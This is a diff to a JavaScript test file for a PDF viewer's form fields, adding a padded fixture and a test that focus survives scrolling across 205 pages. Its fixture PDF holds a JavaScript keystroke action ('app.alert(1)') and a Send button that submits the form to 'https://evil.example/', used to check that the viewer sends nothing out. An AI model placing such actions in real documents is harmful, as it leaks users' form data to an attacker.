@@ -21,13 +21,14 @@ after(async () => {
 });
 
 const widget = (y, rest) => `/Subtype /Widget /F 4 /Rect [60 ${y} 300 ${y + 24}] /DA (/Helv 12 Tf 0 g) ${rest}`;
-const form = () =>
+const form = (before = 0) =>
   pdfOf(
     [
+      ...Array(before).fill({}),
       {
         content: line(780, "Please fill in") + "q 0.9 0.1 0.1 rg 400 600 100 100 re f Q\n",
         annotations: [
-          widget(700, "/FT /Tx /T (name) /V (Ms S. de Wit) /DV (nobody) /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
+          widget(700, "/FT /Tx /T (name) /V (Ms S. de Wit) /DV (nobody) /AP << /N 502 0 R >> /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
           `/Subtype /Widget /F 4 /Rect [60 650 84 674] /FT /Btn /T (agreed) /TU (I agree) /V /Off /AS /Off /MK << /CA (4) >> /AP << /N << /Yes 500 0 R /Off 501 0 R >> >>`,
           widget(600, "/FT /Ch /Ff 131072 /T (when) /Opt [(Monday) (Tuesday) (Friday)] /V (Monday)"),
           widget(550, "/FT /Btn /Ff 65536 /T (send) /MK << /CA (Send) >> /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> /Flags 4 >>"),
@@ -43,6 +44,7 @@ const form = () =>
     {
       objects: {
         500: "<< /Type /XObject /Subtype /Form /BBox [0 0 24 24] /Length 25 >>\nstream\n0 0 1 rg 4 4 16 16 re f   \nendstream",
+        502: "<< /Type /XObject /Subtype /Form /BBox [0 0 240 24] /Length 23 >>\nstream\n0 g 0 0 240 24 re f    \nendstream",
         501: "<< /Type /XObject /Subtype /Form /BBox [0 0 24 24] /Length 1 >>\nstream\n \nendstream",
       },
     },
@@ -81,6 +83,21 @@ test("fields are filled in by keyboard, keep what was filled in when far and zoo
   assert.ok(await page.isChecked('input[name="agreed"]'));
   assert.equal(await page.inputValue('select[name="when"]'), "Friday");
   assert.ok(letter.requests.every(({ method }) => method === "GET"));
+  assert.deepEqual(faults, []);
+  await close();
+});
+
+test("a field that somebody is in stays, however far it is and however long the report", async () => {
+  const letter = site.add({ ...PDF, plain: form(204) });
+  const { page, faults, close } = await openPage(browser);
+  await page.goto(letter.link);
+  await page.waitForSelector('.ws-page[data-page="1"][data-rendered]');
+  await page.fill("[data-page-number]", "205");
+  await page.keyboard.press("Enter");
+  await page.focus('input[name="name"]');
+  await page.evaluate(() => scrollTo(0, 0));
+  await page.waitForSelector('.ws-page[data-page="205"]:not([data-rendered])', { state: "attached" });
+  assert.equal(await page.evaluate(() => document.activeElement.name), "name");
   assert.deepEqual(faults, []);
   await close();
 });
